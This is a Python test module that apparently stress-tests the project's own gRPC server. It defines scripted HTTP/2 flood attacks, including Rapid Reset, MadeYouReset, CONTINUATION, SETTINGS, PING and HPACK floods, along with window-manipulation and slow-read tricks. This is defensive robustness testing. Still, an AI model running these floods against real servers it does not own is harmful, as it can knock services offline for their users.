"""Attacks that send much, each as what one connection sends."""

from __future__ import annotations

import random
import struct

from tests.abuse.hostile import GENERATE, HEALTH, Attack, Hand, Script
from tests.abuse.target import generate
from tests.grpc import raw

HELLO = raw.PREFACE + raw.settings()
ENTRIES_OF_A_FRAME = 16384 // 6
PROMPT = generate([5, 6, 7], 1000).SerializeToString()


def rapid_reset(hand: Hand) -> Script:
    """Calls that are reset at once (CVE-2023-44487)."""
    yield HELLO
    while True:
        yield b"".join(call + raw.reset(stream) for stream, call in (hand.request(PROMPT) for _ in range(200)))


def rapid_reset_of_health_checks(hand: Hand) -> Script:
    yield HELLO
    while True:
        yield b"".join(call + raw.reset(stream) for stream, call in (hand.request(b"", HEALTH) for _ in range(500)))


def resets_that_let_the_engine_begin(hand: Hand) -> Script:
    """Calls that are reset two steps later."""
    yield HELLO
    while True:
        calls = [hand.request(PROMPT) for _ in range(50)]
        yield b"".join(call for _, call in calls)
        yield 0.04
        yield b"".join(raw.reset(stream) for stream, _ in calls)


def made_you_reset_by_increment_zero(hand: Hand) -> Script:
    """The server resets, because of a stream error; such resets are in no client's budget (CVE-2025-8671)."""
    yield HELLO
    while True:
        calls = [hand.request(PROMPT) for _ in range(200)]
        yield b"".join(call + raw.window_update(stream, 0) for stream, call in calls)


def made_you_reset_by_overflow(hand: Hand) -> Script:
    yield HELLO
    while True:
        calls = [hand.request(PROMPT) for _ in range(200)]
        yield b"".join(call + raw.window_update(stream, (1 << 31) - 1) for stream, call in calls)


def made_you_reset_by_data_after_the_end(hand: Hand) -> Script:
    yield HELLO
    while True:
        calls = [hand.request(PROMPT) for _ in range(200)]
        yield b"".join(call + raw.frame(raw.DATA, raw.END_STREAM, stream, b"") for stream, call in calls)


def made_you_reset_by_bad_headers(hand: Hand) -> Script:
    """An upper-case name is a stream error too (RFC 9113, 8.2.1)."""
    yield HELLO
    while True:
        calls = [hand.stream() for _ in range(200)]
        block = hand.block() + b"\0\1X\1y"
        yield b"".join(raw.frame(raw.HEADERS, raw.END_HEADERS | raw.END_STREAM, stream, block) for stream in calls)


def continuation(hand: Hand) -> Script:
    """A header block that never ends, in empty pieces (CVE-2024-27316 and others)."""
    yield HELLO
    stream = hand.stream()
    yield raw.frame(raw.HEADERS, 0, stream, hand.block())
    while True:
        yield raw.frame(raw.CONTINUATION, 0, stream) * 5000


def continuation_with_fields(hand: Hand) -> Script:
    """The same with 16 KiB of fields a piece."""
    yield HELLO
    stream = hand.stream()
    yield raw.frame(raw.HEADERS, 0, stream, hand.block())
    field = b"\0\1x\x7f\x81\x1f" + b"y" * 4096
    while True:
        yield raw.frame(raw.CONTINUATION, 0, stream, field * 3) * 20


def settings(hand: Hand) -> Script:
    yield HELLO
    while True:
        yield raw.settings(window=65535) * 3000


def settings_with_many_entries(hand: Hand) -> Script:
    """2,730 changes of every stream's window in each frame."""
    yield HELLO
    yield b"".join(hand.request(PROMPT)[1] for _ in range(100))
    entries = b"".join(struct.pack(">HI", raw.INITIAL_WINDOW_SIZE, 100 + index) for index in range(ENTRIES_OF_A_FRAME))
    while True:
        yield raw.frame(raw.SETTINGS, 0, 0, entries) * 4


def settings_acknowledgements(hand: Hand) -> Script:
    yield HELLO
    while True:
        yield raw.frame(raw.SETTINGS, raw.ACK, 0) * 5000


def header_table_sizes(hand: Hand) -> Script:
    """SETTINGS that let the server's header table be grown and emptied."""
    yield HELLO
    while True:
        yield b"".join(raw.frame(raw.SETTINGS, 0, 0, struct.pack(">HI", 1, size)) for size in (0, 1 << 30)) * 1000


def ping(hand: Hand) -> Script:
    yield HELLO
    while True:
        yield raw.frame(raw.PING, 0, 0, b"pingping") * 4000


def ping_acknowledgements(hand: Hand) -> Script:
    yield HELLO
    while True:
        yield raw.frame(raw.PING, raw.ACK, 0, b"pingping") * 4000


def empty_data(hand: Hand) -> Script:
    yield HELLO
    stream, headers = hand.open()
    yield headers
    while True:
        yield raw.frame(raw.DATA, 0, stream) * 7000


def padding(hand: Hand) -> Script:
    """DATA of 255 bytes padding and nothing else."""
    yield HELLO
    stream, headers = hand.open()
    yield headers
    while True:
        yield raw.frame(raw.DATA, 8, stream, b"\xff" + bytes(255)) * 250


def data_for_a_closed_stream(hand: Hand) -> Script:
    yield HELLO
    stream, call = hand.request(b"", HEALTH)
    yield call + raw.reset(stream)
    while True:
        yield raw.frame(raw.DATA, 0, stream, b"x" * 100) * 600


def trailers(hand: Hand) -> Script:
    """Header blocks that end nothing, one after another, on one stream."""
    yield HELLO
    stream, headers = hand.open()
    yield headers
    block = hand.block("/x", ("a", "b"))
    while True:
        yield raw.frame(raw.HEADERS, raw.END_HEADERS, stream, block) * 500


def priority(hand: Hand) -> Script:
    yield HELLO
    while True:
        yield b"".join(raw.frame(raw.PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 9001, 2))


def unknown_frames(hand: Hand) -> Script:
    yield HELLO
    while True:
        yield raw.frame(0xEE, 0, 0, b"") * 7000


def large_unknown_frames(hand: Hand) -> Script:
    yield HELLO
    while True:
        yield raw.frame(0xEE, 0, 0, bytes(16384)) * 4


def hpack_copies(hand: Hand) -> Script:
    """A 3,000-byte field in the table, then a byte for each copy of it."""
    yield HELLO
    copies = [("x", "y" * 3000)] * 4000
    while True:
        yield hand.open(GENERATE, *copies, end=True)[1]


def hpack_many_fields(hand: Hand) -> Script:
    yield HELLO
    while True:
        block = hand.block() + b"\0\1x\1y" * 3000
        yield raw.frame(raw.HEADERS, raw.END_HEADERS | raw.END_STREAM, hand.stream(), block)


def hpack_table_updates(hand: Hand) -> Script:
    """A block of nothing but orders to resize the table."""
    yield HELLO
    while True:
        block = b"\x20\x3f\xe1\x1f" * 4000 + hand.block()
        yield raw.frame(raw.HEADERS, raw.END_HEADERS | raw.END_STREAM, hand.stream(), block)


def opened_calls(hand: Hand) -> Script:
    """Calls without a body, as many as a connection may have: six connections fill every place of the server."""
    yield HELLO
    for _ in range(20):
        yield b"".join(hand.open()[1] for _ in range(200))
    while True:
        yield 0.1


def health_watches(hand: Hand) -> Script:
    """Streams that end only when their client wants."""
    yield HELLO
    for _ in range(20):
        yield b"".join(hand.request(b"", "/grpc.health.v1.Health/Watch")[1] for _ in range(200))
    while True:
        yield 0.1


def calls_to_nobody(hand: Hand) -> Script:
    """Methods that do not exist."""
    yield HELLO
    while True:
        yield b"".join(hand.request(b"", "/no.Such/Method")[1] for _ in range(500))


def web_requests(hand: Hand) -> Script:
    yield HELLO
    while True:
        block = hand.block("/", method="GET", kind="text/html")
        calls = (raw.frame(raw.HEADERS, raw.END_HEADERS | raw.END_STREAM, hand.stream(), block) for _ in range(500))
        yield b"".join(calls)


def health_checks(hand: Hand) -> Script:
    """Nothing wrong with any of it but its amount."""
    yield HELLO
    while True:
        yield b"".join(hand.request(b"", HEALTH)[1] for _ in range(500))


def refused_requests(hand: Hand) -> Script:
    """Requests that the guard refuses, each with a long reason."""
    yield HELLO
    bad = generate([5] * 50, 10)
    bad.sampling_params.temperature = float("nan")
    body = bad.SerializeToString()
    while True:
        yield b"".join(hand.request(body)[1] for _ in range(200))


def http_1(hand: Hand) -> Script:
    while True:
        yield b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nUpgrade: h2c\r\n\r\n" * 100


def tls_to_plain_text(hand: Hand) -> Script:
    yield bytes.fromhex("160301020001000 1fc0303".replace(" ", "")) + bytes(600)
    yield 1.0


def noise(hand: Hand) -> Script:
    some = random.Random(7)
    yield raw.PREFACE
    while True:
        yield some.randbytes(1 << 14)


def oversized_frames(hand: Hand) -> Script:
    """Frames longer than SETTINGS_MAX_FRAME_SIZE."""
    yield HELLO
    stream, headers = hand.open()
    yield headers + struct.pack(">I", (1 << 24) - 1)[1:] + bytes([raw.DATA, 0]) + struct.pack(">I", stream)
    while True:
        yield bytes(1 << 16)


def connect_and_leave(hand: Hand) -> Script:
    return iter(())


def connect_and_ask(hand: Hand) -> Script:
    """A new connection for each health check."""
    yield HELLO + hand.request(b"", HEALTH)[1]
    yield 0.01


def connect_generate_and_leave(hand: Hand) -> Script:
    yield HELLO + hand.request(PROMPT)[1]
    yield 0.002


def window_updates(hand: Hand) -> Script:
    yield HELLO
    stream, call = hand.request(PROMPT)
    yield call
    while True:
        yield (raw.window_update(0, 1) + raw.window_update(stream, 1)) * 2500


def tiny_windows(hand: Hand) -> Script:
    """100 streams that are given a byte at a time."""
    yield raw.PREFACE + raw.settings(window=0)
    calls = [hand.request(PROMPT) for _ in range(100)]
    yield b"".join(call for _, call in calls)
    while True:
        yield b"".join(raw.window_update(stream, 1) for stream, _ in calls)
        yield 0.02


def closed_windows(hand: Hand) -> Script:
    """Streams that are never given a byte: their tokens wait, their frames do not."""
    yield raw.PREFACE + raw.settings(window=0)
    for _ in range(4):
        yield b"".join(hand.request(PROMPT)[1] for _ in range(50))
    while True:
        yield 0.5


def spent_connection_window(hand: Hand) -> Script:
    """Streams with all the window in the world on a connection whose window is never updated."""
    yield raw.PREFACE + raw.settings(window=(1 << 31) - 1)
    for _ in range(4):
        yield b"".join(hand.request(PROMPT)[1] for _ in range(50))
    while True:
        yield 0.5


def flipping_windows(hand: Hand) -> Script:
    """INITIAL_WINDOW_SIZE up and down under running streams: windows become negative, then huge."""
    yield HELLO
    yield b"".join(hand.request(PROMPT)[1] for _ in range(100))
    sizes = (0, (1 << 31) - 1, 1, 70_000)
    while True:
        for size in sizes:
            yield raw.settings(window=size)
            yield 0.11


def overflowing_connection_window(hand: Hand) -> Script:
    yield HELLO
    yield hand.request(PROMPT)[1] + raw.window_update(0, (1 << 31) - 1)
    yield 0.05


def never_reads(hand: Hand) -> Script:
    """All windows open, and nothing is taken from the socket."""
    yield raw.PREFACE + raw.settings(window=(1 << 31) - 1) + raw.window_update(0, (1 << 31) - 65536)
    for _ in range(4):
        yield b"".join(hand.request(PROMPT)[1] for _ in range(50))
    while True:
        yield raw.frame(raw.PING, 0, 0, b"pingping") * 10
        yield 0.1


def never_reads_what_it_asks_for(hand: Hand) -> Script:
    """Answers pile up: nothing is taken from the socket, and requests keep coming."""
    yield HELLO
    while True:
        yield b"".join(hand.request(b"", "/no.Such/Method")[1] for _ in range(500))


FLOODS = (
    Attack(rapid_reset),
    Attack(rapid_reset_of_health_checks),
    Attack(resets_that_let_the_engine_begin),
    Attack(made_you_reset_by_increment_zero),
    Attack(made_you_reset_by_overflow),
    Attack(made_you_reset_by_data_after_the_end),
    Attack(made_you_reset_by_bad_headers),
    Attack(continuation),
    Attack(continuation_with_fields),
    Attack(settings),
    Attack(settings_with_many_entries),
    Attack(settings_acknowledgements),
    Attack(header_table_sizes),
    Attack(ping),
    Attack(ping_acknowledgements),
    Attack(ping, reads=False),
    Attack(empty_data),
    Attack(padding),
    Attack(data_for_a_closed_stream),
    Attack(trailers),
    Attack(priority),
    Attack(unknown_frames),
    Attack(large_unknown_frames),
    Attack(hpack_copies),
    Attack(hpack_many_fields),
    Attack(hpack_table_updates),
    Attack(opened_calls, connections=6),
    Attack(health_watches, connections=6),
    Attack(calls_to_nobody),
    Attack(web_requests),
    Attack(health_checks),
    Attack(refused_requests),
    Attack(http_1),
    Attack(tls_to_plain_text),
    Attack(noise),
    Attack(oversized_frames),
    Attack(connect_and_leave, connections=8),
    Attack(connect_and_ask, connections=8),
    Attack(connect_generate_and_leave, connections=8),
    Attack(window_updates),
    Attack(tiny_windows),
    Attack(closed_windows),
    Attack(spent_connection_window),
    Attack(flipping_windows),
    Attack(overflowing_connection_window),
    Attack(never_reads, reads=False),
    Attack(never_reads_what_it_asks_for, reads=False),
)
